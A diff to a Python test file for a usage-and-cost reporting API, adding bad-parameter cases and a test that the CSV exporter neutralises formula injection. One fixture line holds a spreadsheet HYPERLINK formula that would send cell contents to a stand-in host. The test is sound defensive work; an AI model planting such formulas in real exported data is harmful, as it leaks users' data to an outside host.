@@ -34,6 +34,8 @@ def test_defaults_are_the_last_thirty_days_in_one_json_total() -> None:
         ({"group_by": "day,day"}, "group_by"),
         ({"format": "xml"}, "format"),
         ({"start_time": "0"}, "start_time"),  # a range of decades
+        ({"start_time": "253402300000", "end_time": "253402400000"}, "end_time"),  # past year 9999
+        ({"end_time": "inf"}, "end_time"),
     ],
 )
 def test_bad_parameters_are_400s_naming_them(params: dict[str, str], param: str) -> None:
@@ -60,6 +62,8 @@ def test_rows_render_as_json_and_csv_with_exact_costs() -> None:
     assert body["data"][0] == {"day": "2027-01-15", "model": "dall-e-3", "requests": 3, "images": 2, "cost_usd": 0.08,
                                "errors": 1, "p50_ms": 120.5, "p95_ms": 900.0}
     assert (body["start_time"], body["end_time"], body["group_by"]) == (100, 200, ["day", "model"])
+    formula = UsageRow({"day": "2027-01-15", "model": '=HYPERLINK("http://x.example/?"&A1)'}, 1, 0, 0, 1, None, None)
+    assert usage_csv(query, [formula]).splitlines()[1].startswith('2027-01-15,"\'=HYPERLINK(')  # a text, not a formula
     assert usage_csv(query, rows).splitlines() == [
         "day,model,requests,images,cost_usd,errors,p50_ms,p95_ms",
         "2027-01-15,dall-e-3,3,2,0.08,1,120.5,900.0",
